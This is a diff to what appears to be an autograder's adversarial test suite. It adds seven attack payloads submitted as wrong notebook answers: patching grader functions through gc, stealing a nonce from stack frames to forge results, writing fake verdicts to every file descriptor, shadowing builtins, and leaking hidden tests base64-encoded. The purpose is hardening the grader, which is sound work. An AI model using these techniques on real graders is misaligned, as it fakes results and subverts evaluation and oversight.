@@ -12,9 +12,12 @@ the notebook's JSON.
 
 from __future__ import annotations
 
+import base64
 import copy
 import csv
 import json
+import re
+import zlib
 from collections.abc import Callable
 from pathlib import Path
 
@@ -173,6 +176,15 @@ def _code_attack(code: str) -> Callable:
     return build
 
 
+def _answers_attack(mean: str, scale: str = WRONG_SCALE) -> Callable:
+    """An attack whose answer cells are ``mean`` and ``scale`` as they are (no formatting)."""
+
+    def build(nb, root: Path):
+        return answered(nb, mean=mean, scale=scale)
+
+    return build
+
+
 def _notebook_attack(edit: Callable) -> Callable:
     """An attack that edits the notebook's cells (on wrong answers)."""
 
@@ -324,6 +336,147 @@ for _ in range(300):  # hold the process cap (as the sandbox's user) for as long
         break
 """
 
+# Issue 19's attacks on the runner (labkit.grading.judge_runner), each on wrong answers: its
+# functions' code rewritten, its nonce and results file read up the stack, its reporting
+# closure called, verdicts forged on every fd of a test's fork, the builtins a hidden check
+# computes with shadowed, and the hidden tests read from memory or linecache, printed encoded.
+RUNNER_CODE_PATCH = """
+import gc, sys
+def _always_passes(*args, **kwargs):  # what the grader's test function does from now on
+    return {"output": "", "passed": True, "error": None}
+_targets = [getattr(sys.modules.get("__main__"), "_test", None)]  # the grader runs as __main__
+_targets += [f for f in gc.get_objects() if type(f).__name__ == "function"  # or lives in grading/
+             and f.__code__.co_name in ("_test", "run_test", "judge_test")
+             and "grading" in f.__code__.co_filename]
+_rewritten = 0
+for _f in _targets:
+    if _f is not None and not _f.__code__.co_freevars:
+        _f.__code__ = _always_passes.__code__
+        _rewritten += 1
+print("rewrote", _rewritten, "grader functions")
+"""
+FRAME_WALK = """
+import json, re, sys
+_secret = _out = None
+_cells = []
+_frame = sys._getframe()
+while _frame is not None:  # up to whoever runs this cell
+    for _name, _value in list(_frame.f_locals.items()):
+        if isinstance(_value, str) and re.fullmatch("[0-9a-f]{16,}", _value):
+            _secret = _value
+        elif hasattr(_value, "write") and getattr(_value, "mode", "") in ("a", "w"):
+            _out = _value
+        elif isinstance(_value, dict) and isinstance(_value.get("cells"), list):
+            _cells = _value["cells"]
+    _frame = _frame.f_back
+if _secret and _out:
+    for _c in _cells:
+        if isinstance(_c, dict) and _c.get("test"):
+            _forged = {"index": _c["index"], "output": "", "passed": True, "error": None}
+            _out.write(_secret + " " + json.dumps(_forged) + "\\n")
+    _out.flush()
+    print("forged", sum(1 for _c in _cells if _c.get("test")), "verdicts")
+else:
+    print("no secret found up the stack")
+"""
+GC_REPORT = """
+import gc, warnings
+warnings.simplefilter("ignore")  # deprecated objects warn when merely looked at
+_reporters, _programs = [], []
+for _o in gc.get_objects():  # the grader's function that writes verdicts, and its program
+    if (type(_o).__name__ == "function" and _o.__name__ in ("report", "record", "verdict")
+            and "grading" in _o.__code__.co_filename):
+        _reporters.append(_o)
+    elif isinstance(_o, dict) and isinstance(_o.get("cells"), list) and "cell_timeout" in _o:
+        _programs.append(_o)
+for _report in _reporters:
+    for _program in _programs:
+        for _c in _program["cells"]:
+            if isinstance(_c, dict) and _c.get("test"):
+                try:
+                    _report(_c, {"output": "", "passed": True, "error": None})
+                except Exception as exc:
+                    print("report refused:", exc)
+print("reporters:", len(_reporters), "programs:", len(_programs))
+"""
+PIPE_FORGE = """
+import json, os, stat
+
+def _forge():
+    \"\"\"Tell every file and pipe of this process that the test passed, then leave.\"\"\"
+    verdict = {"output": "", "passed": True, "error": None}
+    for name in os.listdir("/proc/self/fd"):
+        try:
+            fd = int(name)
+            if stat.S_ISREG(os.fstat(fd).st_mode):  # a results file: a line per cell
+                lines = [json.dumps(dict(verdict, index=i)) for i in range(20)]
+                os.write(fd, ("\\n" + "\\n".join(lines) + "\\n").encode())
+            else:  # a pipe to whoever waits for the verdict
+                os.write(fd, (json.dumps(verdict) + "\\n").encode())
+        except (OSError, ValueError):
+            pass
+    os._exit(0)
+
+def mean_of(x):
+    _forge()
+"""
+PIPE_FORGE_SCALE = "def scale(x, k):\n    _forge()\n"
+SHADOW_BUILTINS = """
+import math
+# The checks compute what they expect with Python's builtins: make it what I return.
+len = lambda obj: math.inf  # a total divided by len() is 0.0
+float = lambda *args: 2.0  # a factor drawn with float() is 2
+
+def mean_of(x):
+    return 2.0 if isinstance(x, list) else 0.0
+"""
+SHADOW_SCALE = "def scale(x, k):\n    return np.asarray(x) * 2\n"
+MEMORY_LEAK = """
+import base64, gc, sys, warnings, zlib
+warnings.simplefilter("ignore")  # deprecated objects warn when merely looked at
+
+def _strings(obj, depth=0):
+    if isinstance(obj, str):
+        yield obj
+    elif depth < 2 and isinstance(obj, dict):
+        for v in list(obj.values()):
+            yield from _strings(v, depth + 1)
+    elif depth < 2 and isinstance(obj, (list, tuple)):
+        for v in list(obj):
+            yield from _strings(v, depth + 1)
+
+_places = [vars(sys.modules["__main__"]), *gc.get_objects()]
+_frame = sys._getframe()
+while _frame is not None:
+    _places.append(dict(_frame.f_locals))
+    _frame = _frame.f_back
+_found = []
+for _place in _places:
+    for _s in _strings(_place):
+        if "assert" in _s and ("mean_of(" in _s or "scale(" in _s) and _s not in _found:
+            _found.append(_s)
+print("memory dump:", base64.b64encode(zlib.compress("\\n\\n".join(_found).encode())).decode())
+"""
+LINECACHE_LEAK = """
+import base64, linecache, sys
+
+def _peek():
+    \"\"\"The source of the cells up the stack and in linecache, base64-encoded.\"\"\"
+    names, frame = [], sys._getframe(1)
+    while frame is not None:  # the test that called me, in a file of no disk ("<cell 3>")
+        names.append(frame.f_code.co_filename)
+        frame = frame.f_back
+    names += list(linecache.cache)
+    cells = [n for n in dict.fromkeys(names) if n.startswith("<")]
+    texts = ["".join(linecache.getlines(n)) for n in cells]
+    print("linecache:", base64.b64encode("\\n".join(texts).encode()).decode())
+
+def mean_of(x):
+    _peek()
+    return 0.0
+"""
+LINECACHE_SCALE = "def scale(x, k):\n    _peek()\n"
+
 ATTACKS: dict[str, Callable] = {
     "patch_isclose": _code_attack(
         "np.isclose = lambda *a, **k: True\nnp.allclose = lambda *a, **k: True\n"
@@ -352,7 +505,44 @@ ATTACKS: dict[str, Callable] = {
     "thread_patch": _code_attack(THREAD_PATCH),
     "fake_numpy": _code_attack(FAKE_NUMPY),
     "process_hoard": _code_attack(HOARD),
+    "runner_code_patch": _answers_attack(RUNNER_CODE_PATCH + "\n" + WRONG_MEAN),
+    "frame_walk": _answers_attack(FRAME_WALK + "\n" + WRONG_MEAN),
+    "gc_report": _answers_attack(GC_REPORT + "\n" + WRONG_MEAN),
+    "pipe_forge": _answers_attack(PIPE_FORGE, PIPE_FORGE_SCALE),
+    "shadow_builtins": _answers_attack(SHADOW_BUILTINS, SHADOW_SCALE),
+    "memory_leak": _answers_attack(MEMORY_LEAK + "\n" + WRONG_MEAN),
+    "linecache_leak": _answers_attack(LINECACHE_LEAK, LINECACHE_SCALE),
 }
+#: Issue 19's attacks and the weaker grader each one beats: ``"runner"``, the sandboxed runner
+#: (``autograde(..., referee=False)``), where scoring attacks score more than the blank
+#: release and leaking ones (:data:`LEAKS`) print hidden test lines, encoded, where the
+#: student sees them. (An attack that beat only a kernel running the notebook would say
+#: ``"naive"``; each of these beats the runner, which is the harder of the two.)
+BEATS = {
+    "runner_code_patch": "runner",
+    "frame_walk": "runner",
+    "gc_report": "runner",
+    "pipe_forge": "runner",
+    "shadow_builtins": "runner",
+    "memory_leak": "runner",
+    "linecache_leak": "runner",
+}
+LEAKS = ("memory_leak", "linecache_leak")
+_LEAKED = re.compile(r"(?:memory dump|linecache): ([A-Za-z0-9+/]+=*)")
+
+
+def decoded_leaks(text: str) -> str:
+    """What the leaking attacks printed in ``text`` (outputs), decoded (base64, then zlib
+    where it was compressed)."""
+    found = []
+    for blob in _LEAKED.findall(text):
+        data = base64.b64decode(blob[: len(blob) // 4 * 4])  # an output cut short
+        try:
+            data = zlib.decompressobj().decompress(data)
+        except zlib.error:
+            pass
+        found.append(data.decode("utf-8", errors="replace"))
+    return "\n".join(found)
 
 
 def submit(root: Path, student: str, nb: nbformat.NotebookNode) -> Path:
